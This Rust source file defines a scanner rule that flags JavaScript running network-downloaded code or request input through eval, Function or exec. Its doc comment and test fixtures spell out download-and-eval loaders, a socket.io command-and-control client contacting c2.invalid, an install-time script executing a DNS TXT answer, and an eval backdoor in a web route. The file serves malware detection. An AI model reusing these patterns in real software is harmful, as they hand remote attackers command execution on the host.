use palisade_diagnostics::{Finding, Severity};

use crate::context::ScanContext;
use crate::rule::{Rule, RuleMeta, declare_rule};

declare_rule! {
    /// ## What it does
    /// Finds code that runs what it downloads: a network response reaching
    /// `eval`, `Function` or `vm`.
    ///
    /// ## Why is this bad?
    /// The code that runs is chosen by the server at run time; it can differ
    /// per victim and change after review. Loaders of crypto drainers and
    /// second-stage droppers work this way.
    ///
    /// ## Example
    /// ```js
    /// https.get(url, (res) => { let b = ''; res.on('data', (c) => (b += c)); res.on('end', () => eval(b)); });
    /// ```
    ///
    /// ## References
    /// - MITRE ATT&CK T1105 (Ingress Tool Transfer).
    RemoteCode {
        id: "exec/remote-code",
        severity: Critical,
        status: Stable,
        summary: "Code downloaded at run time is executed",
    }
}

impl Rule for RemoteCode {
    fn meta(&self) -> &'static RuleMeta {
        &Self::META
    }

    fn check(&self, ctx: &ScanContext<'_>, out: &mut Vec<Finding>) {
        for d in ctx
            .facts
            .decode_run
            .iter()
            .filter(|d| matches!(d.decoder.as_str(), "remote" | "request-input"))
        {
            let what = if d.decoder == "remote" {
                "code received from the network"
            } else {
                "input from HTTP requests it serves (a backdoor)"
            };
            out.push(
                ctx.at(
                    Finding::new(
                        Self::META.id,
                        Severity::Critical,
                        format!("`{}` runs {what}", d.sink),
                    ),
                    &d.at.location,
                )
                .at_install_time(d.at.install_time)
                .with_capability("remote-code"),
            );
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::tester::{Case, Tester};

    #[test]
    fn rule() {
        Tester::new(&RemoteCode::META).test(
            &[
                Case::Js("const https = require('https');\nhttps.get('https://cdn.invalid/p.js', (res) => {\n  let b = '';\n  res.on('data', (c) => { b += c; });\n  res.on('end', () => eval(b));\n});"),
                Case::Js("async function f() { const r = await fetch('https://x.invalid/a'); const code = await r.text(); new Function(code)(); }"),
                Case::Js("app.get('/', function (req, res) { res.send('ok ' + eval(req.query.q)); });"),
                Case::Js("const { exec } = require('child_process');\nrequire('https').get('https://x.invalid/cmd', (res) => { let d = ''; res.on('data', (c) => (d += c)); res.on('end', () => exec(d)); });"),
                Case::Js("const io = require('socket.io-client');\nconst { exec } = require('child_process');\nconst socket = io('http://c2.invalid');\nsocket.on('exec', (command, cb) => exec(command, (e, out) => cb(out)));"),
                Case::Js("const WebSocket = require('ws');\nconst ws = new WebSocket('ws://127.0.0.1:9');\nws.on('message', (m) => require('child_process').execSync(m.toString()));"),
                Case::InstallJs("const { exec } = require('child_process');\nrequire('https').get('https://resolver.invalid/resolve?name=c2.invalid&type=TXT', (res) => {\n  const parts = [];\n  res.on('data', (c) => parts.push(c));\n  res.on('end', () => exec(JSON.parse(Buffer.concat(parts).toString()).Answer[0].data));\n});"),
            ],
            &[
                Case::Js("async function f() { const r = await fetch('https://x.invalid/a'); const j = await r.json(); console.log(j); }"),
                Case::Js("const io = require('socket.io-client');\nconst socket = io('http://127.0.0.1:3000');\nsocket.on('message', (m) => console.log(m));\nrequire('child_process').execFile('git', ['status']);"),
                Case::Js("const { execFile } = require('child_process');\nconst lines = [];\nrequire('https').get('https://x.invalid/v', (res) => { res.on('data', (c) => lines.push(c)); res.on('end', () => execFile('git', ['tag', Buffer.concat(lines).toString().trim()])); });"),
                Case::Js("app.get('/', (req, res) => { res.json({ q: req.query.q }); });"),
                Case::Js("const code = fs.readFileSync('tpl.js', 'utf8'); const fn = new Function('x', 'return x');"),
            ],
        );
    }
}
